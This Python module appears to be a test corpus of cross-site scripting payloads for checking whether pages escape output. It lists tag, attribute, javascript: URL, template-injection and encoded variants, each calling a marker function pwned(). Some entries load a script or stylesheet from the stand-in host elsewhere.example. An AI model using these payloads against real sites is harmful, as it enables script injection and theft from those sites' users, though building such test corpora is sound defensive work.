"""Strings that run a script where a page forgets to escape them: each calls ``pwned()`` in another way."""

_TAGS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//elsewhere.example/x.js></script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned()><text x=20 y=20>x</text></a>",
    "<math><mtext></p><script>pwned()</script></math>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<textarea autofocus onfocus=pwned()></textarea>",
    "<marquee onstart=pwned()>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<form action=javascript:pwned()><button autofocus>x</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<button popovertarget=x onclick=pwned()>x</button>",
    "<dialog open onclose=pwned()>x</dialog>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
)
_ATTRIBUTES = (
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    '" autofocus onfocus="pwned()" x="',
    "` onmouseover=pwned() `",
    '"/><svg/onload=pwned()>',
    'x" style="animation-name:x" onanimationstart="pwned()',
)
_SCRIPTS = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "';pwned();//",
    '";pwned();//',
    "\\';pwned();//",
    "${pwned()}",
    "{{pwned()}}",
    "{{constructor.constructor('pwned()')()}}",
    "{% if 1 %}<script>pwned()</script>{% endif %}",
    "#{pwned()}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\u202e<script>pwned()</script>",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
)
CORPUS = (*_TAGS, *_ATTRIBUTES, *_SCRIPTS)


def one_line() -> list[str]:
    """Those that fit on one line."""
    return [one.replace("\t", " ") for one in CORPUS]


def chunks(longest: int) -> list[str]:
    """All of them in as few lines as fit."""
    found = [""]
    for one in one_line():
        if len(found[-1]) + len(one) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {one}".strip()
    return found
